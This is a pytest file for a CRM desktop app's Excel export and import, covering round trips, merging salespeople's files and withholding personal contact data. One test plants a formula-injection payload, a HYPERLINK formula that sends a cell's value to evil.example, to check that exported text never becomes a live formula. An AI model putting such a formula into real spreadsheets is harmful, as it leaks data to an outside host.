"""The full export, its lossless round trip, and merging several salespeople's files."""

from __future__ import annotations

import json
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from desktop.models import Account, Contact, Setting
from desktop.services.database import Database, open_database
from desktop.services.excel.full_export import MARKER, export_everything
from desktop.services.excel.full_import import read_full_export
from desktop.services.excel.import_service import ImportService
from desktop.services.personal_data import PERSONAL_COLUMNS

pytestmark = pytest.mark.both_engines

NOW = datetime(2026, 11, 23, 10, 0)


def _export(db: Database, path: Path, *, personal: bool = False) -> Path:
    with db.read() as s:
        export_everything(s.connection(), path, NOW, include_personal=personal)
    return path


def _cells(path: Path) -> dict[str, list[tuple]]:
    book = load_workbook(path, read_only=True)
    try:
        return {
            name: list(book[name].iter_rows(values_only=True))
            for name in book.sheetnames
            if name != "About"
        }
    finally:
        book.close()


def _import_full(db: Database, clock, path: Path, merge: bool | None = None):
    service = ImportService(db, clock)
    export = read_full_export(path)
    candidates = service.candidates(export)
    merges = {c.incoming for c in candidates} if merge else set()
    return candidates, service.run_full(export, merges, dry_run=False)


def test_round_trip_gives_identical_cells(demo_db: Database, tmp_path: Path, clock) -> None:
    first = _export(demo_db, tmp_path / "first.xlsx", personal=True)
    target = open_database(tmp_path / "empty.sqlite").db
    try:
        candidates, report = _import_full(target, clock, first)
        assert candidates == [] and report.errors == 0
        second = _export(target, tmp_path / "second.xlsx", personal=True)
    finally:
        target.close()
    before, after = _cells(first), _cells(second)
    assert before.keys() == after.keys()
    for sheet in before:
        assert after[sheet] == before[sheet], sheet
    assert len(before["contact"]) > 60


def test_the_export_is_a_proper_spreadsheet(demo_db: Database, tmp_path: Path) -> None:
    path = _export(demo_db, tmp_path / "all.xlsx")
    book = load_workbook(path)  # normal mode: sheet properties are readable
    about = book["About"]
    assert about["A1"].value == MARKER
    assert "personal data" in about["B2"].value.lower() and "left out" in about["B2"].value
    assert book.sheetnames[0] == "About" and "contact" in book.sheetnames
    contracts = book["contract"]
    headers = [c.value for c in contracts[1]]
    assert headers[:3] == ["id", "owner", "account"]
    assert contracts.freeze_panes == "A2"
    assert contracts.auto_filter.ref.startswith("A1:")
    amount = contracts.cell(row=2, column=headers.index("amount") + 1)
    signed = contracts.cell(row=2, column=headers.index("signed_on") + 1)
    assert isinstance(amount.value, int | float) and amount.number_format == "#,##0.00"
    assert isinstance(signed.value, datetime)
    lists = [v.formula1 for v in book["contact"].data_validations.dataValidation]
    assert any("coach,supporter,neutral,opponent,blocker" in f for f in lists)


def test_text_is_never_exported_as_a_formula(db: Database, tmp_path: Path, clock) -> None:
    nasty = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'
    with db.session() as s:
        s.add(Account(name=nasty, notes="@SUM(1)", tax_id="91320100MA1XYZ1234"))
    path = _export(db, tmp_path / "nasty.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    target = open_database(tmp_path / "back.sqlite").db
    try:
        _import_full(target, clock, path)
        with target.read() as s:
            account = s.query(Account).one()
            assert (account.name, account.notes) == (nasty, "@SUM(1)")
    finally:
        target.close()


def test_text_that_looks_like_an_excel_error_comes_back_as_text(
    db: Database, tmp_path: Path, clock
) -> None:
    with db.session() as s:
        s.add(Account(name="彭城地铁集团", notes="#N/A"))
    path = _export(db, tmp_path / "errors.xlsx")
    target = open_database(tmp_path / "back.sqlite").db
    try:
        _import_full(target, clock, path)
        with target.read() as s:
            assert s.query(Account).one().notes == "#N/A"
    finally:
        target.close()


def _salesperson(tmp_path: Path, clock, owner: str, people: list[str]) -> Path:
    db = open_database(tmp_path / f"{owner}.sqlite").db
    db.set_default_owner(owner)
    with db.session() as s:
        account = Account(name="彭城地铁集团")
        s.add(account)
        s.flush()
        for name in people:
            s.add(Contact(account_id=account.id, name=name, title=f"{owner}记的职务"))
    path = _export(db, tmp_path / f"{owner}.xlsx")
    db.close()
    return path


@pytest.mark.parametrize("merge", [True, False])
def test_merging_two_salespeoples_files(tmp_path: Path, clock, merge: bool) -> None:
    zhang = _salesperson(tmp_path, clock, "张三", ["白志刚", "刘工"])
    li = _salesperson(tmp_path, clock, "李四", ["白志刚", "王工"])
    manager = open_database(tmp_path / "manager.sqlite").db
    try:
        assert _import_full(manager, clock, zhang)[0] == []
        candidates, report = _import_full(manager, clock, li, merge=merge)
        assert report.backup.endswith("before-merge.sqlite")  # the database as it was
        assert sorted(
            (c.table, c.name, c.incoming_owner, c.existing_owner) for c in candidates
        ) == [
            ("account", "彭城地铁集团", "李四", "张三"),
            ("contact", "白志刚", "李四", "张三"),
        ]
        with manager.read() as s:
            accounts = s.query(Account).all()
            people = sorted((c.name, c.owner, c.account_id) for c in s.query(Contact))
        if merge:
            (account,) = accounts
            assert people == [
                ("刘工", "张三", account.id),
                ("王工", "李四", account.id),
                ("白志刚", "张三", account.id),
            ]
            # Next week's file from the same colleague merges the same way, unasked.
            again, report = _import_full(manager, clock, li)
            assert again == [] and report.created == {}
            with manager.read() as s:
                assert s.query(Contact).count() == 3
        else:
            assert len(accounts) == 2 and len(people) == 4
            assert {owner for _n, owner, _a in people} == {"张三", "李四"}
    finally:
        manager.close()


def test_a_later_edit_wins_and_an_older_one_does_not(tmp_path: Path, clock) -> None:
    path = _salesperson(tmp_path, clock, "张三", ["白志刚"])
    manager = open_database(tmp_path / "manager.sqlite").db
    try:
        _import_full(manager, clock, path)
        with manager.session() as s:
            s.query(Contact).one().title = "经理改过的职务"
        _candidates, report = _import_full(manager, clock, path)  # the older version again
        assert report.updated == {} and report.unchanged["contact"] == 1
        with manager.read() as s:
            assert s.query(Contact).one().title == "经理改过的职务"
    finally:
        manager.close()


def test_a_sheet_that_is_not_a_full_export_is_refused(tmp_path: Path) -> None:
    from desktop.services.messages import UserError

    with pytest.raises(UserError, match="not a full export"):
        read_full_export(
            Path(__file__).resolve().parents[2] / "fixtures" / "excel" / "crm_export.xlsx"
        )


PERSONAL = PERSONAL_COLUMNS["contact"]


def _contact_headers(path: Path) -> list[str]:
    return list(_cells(path)["contact"][0])


def test_personal_data_is_left_out_unless_asked_for(demo_db: Database, tmp_path: Path) -> None:
    with demo_db.session() as s:
        person = s.query(Contact).first()
        person.family, person.wechat = "妻子张某，电话139", "wx_zhou"
        person.birthday = date(1970, 5, 6)
    plain = _export(demo_db, tmp_path / "plain.xlsx")
    headers = _contact_headers(plain)
    assert not set(PERSONAL) & set(headers) and "title" in headers and "stance" in headers
    with zipfile.ZipFile(plain) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert "妻子张某".encode() not in everything and b"wx_zhou" not in everything
    about = load_workbook(plain, read_only=True)["About"]
    assert "is left out" in next(about.iter_rows(min_row=2, max_row=2, values_only=True))[1]
    full = _export(demo_db, tmp_path / "full.xlsx", personal=True)
    assert set(PERSONAL) <= set(_contact_headers(full))
    about = load_workbook(full, read_only=True)["About"]
    assert (
        "contains personal data" in next(about.iter_rows(min_row=2, max_row=2, values_only=True))[1]
    )


def test_importing_an_export_without_personal_data_keeps_it(tmp_path: Path, clock) -> None:
    path = tmp_path / "mine.sqlite"
    db = open_database(path).db
    try:
        with db.session() as s:
            account = Account(name="彭城地铁集团")
            s.add(account)
            s.flush()
            s.add(
                Contact(
                    account_id=account.id,
                    name="白志刚",
                    title="总工",
                    family="妻子张某",
                    wechat="wx_bai",
                    birthday=date(1970, 5, 6),
                    updated_at=datetime(2026, 1, 1),
                )
            )
        plain = _export(db, tmp_path / "plain.xlsx")
        with db.session() as s:  # the export is older than the database's record now:
            s.query(Contact).one().updated_at = datetime(2025, 1, 1)  # the file's version wins
        book = load_workbook(plain)  # and an edit typed into it is applied (docs/merging.md)
        sheet = book["contact"]
        headers = [cell.value for cell in sheet[1]]
        sheet.cell(row=2, column=headers.index("title") + 1).value = "总工程师"
        book.save(plain)
        _candidates, report = _import_full(db, clock, plain)
        assert report.updated["contact"] == 1
        with db.read() as s:
            person = s.query(Contact).one()
            assert (person.title, person.family, person.wechat, person.birthday) == (
                "总工程师",
                "妻子张某",
                "wx_bai",
                date(1970, 5, 6),
            )
        fresh = open_database(tmp_path / "fresh.sqlite").db
        try:
            _import_full(fresh, clock, plain)
            with fresh.read() as s:
                person = s.query(Contact).one()
                assert (person.title, person.family, person.birthday) == ("总工程师", "", None)
        finally:
            fresh.close()
    finally:
        db.close()


@pytest.mark.parametrize("personal", [False, True])
def test_the_command_line_export_asks_for_personal_data_explicitly(
    demo_db_path: Path, tmp_path: Path, capsys, personal: bool
) -> None:
    from desktop.app import main

    target = tmp_path / "all.xlsx"
    option = ["--include-personal"] if personal else []
    assert main(["export", str(target), "--db", str(demo_db_path), *option]) == 0
    out = capsys.readouterr().out
    assert ("personal data" in out) and (("left out" in out) != personal)
    assert (set(PERSONAL) <= set(_contact_headers(target))) == personal


def test_the_change_log_sheet_leaves_personal_values_out_with_the_columns(
    tmp_path: Path,
) -> None:
    """The change log holds old and new values: exported without --include-personal, those of
    personal fields are not in the workbook either, in no sheet (docs/personal-data.md)."""
    from desktop.app import main
    from desktop.services.excel.tables import CHANGE_LOG_SHEET

    path = tmp_path / "mine.sqlite"
    db = open_database(path).db
    try:
        with db.session() as s:
            account = Account(name="彭城地铁集团")
            s.add(account)
            s.flush()
            s.add(Contact(account_id=account.id, name="白志刚", title="总工", wechat="wx_old"))
        with db.session() as s:  # logged field by field, old and new values
            person = s.query(Contact).one()
            person.family, person.wechat, person.interests = "妻子张某", "wx_bai", "钓鱼爱好者"
            person.birthday, person.title = date(1970, 5, 6), "总工程师"
    finally:
        db.close()
    secrets = ["wx_old", "wx_bai", "妻子张某", "钓鱼爱好者", "1970-05-06"]

    def written(target: Path) -> str:
        with zipfile.ZipFile(target) as archive:
            return b"".join(archive.read(n) for n in archive.namelist()).decode("utf-8")

    plain = tmp_path / "plain.xlsx"
    assert main(["export", str(plain), "--db", str(path)]) == 0
    assert [s for s in secrets if s in written(plain)] == []
    log = _cells(plain)[CHANGE_LOG_SHEET]
    fields = {row[4] for row in log[1:] if row[2] == "contact"}
    assert "title" in fields and not fields & set(PERSONAL)  # the rest of the log is there
    full = tmp_path / "full.xlsx"
    assert main(["export", str(full), "--db", str(path), "--include-personal"]) == 0
    assert [s for s in secrets if s in written(full)] == secrets
    fields = {row[4] for row in _cells(full)[CHANGE_LOG_SHEET][1:] if row[2] == "contact"}
    assert {"wechat", "family", "interests", "birthday"} <= fields


def test_settings_a_file_declares_wrongly_or_not_at_all_are_left_out(
    db: Database, tmp_path: Path, clock
) -> None:
    """A setting this version does not know is left out; one of the wrong type refuses the
    whole import (the setting sheet is checked like every sheet: docs/field-rules.md)."""
    export = read_full_export(_export(db, tmp_path / "empty.xlsx"))
    export.settings = [
        ("contracts.reminder_days", json.dumps(14)),
        ("no.such.setting", json.dumps(1)),
    ]
    service = ImportService(db, clock)
    assert not service.run_full(export, set(), dry_run=False).refused
    with db.read() as s:
        stored = dict(s.execute(select(Setting.key, Setting.value)).all())
    assert stored.get("contracts.reminder_days") == 14
    assert "no.such.setting" not in stored

    export.settings = [
        ("contracts.limitation_years", json.dumps("three")),
        ("contracts.invoice_booking_days", json.dumps(45)),
    ]
    assert service.run_full(export, set(), dry_run=False).refused
    with db.read() as s:
        stored = dict(s.execute(select(Setting.key, Setting.value)).all())
    assert "contracts.limitation_years" not in stored
    assert "contracts.invoice_booking_days" not in stored
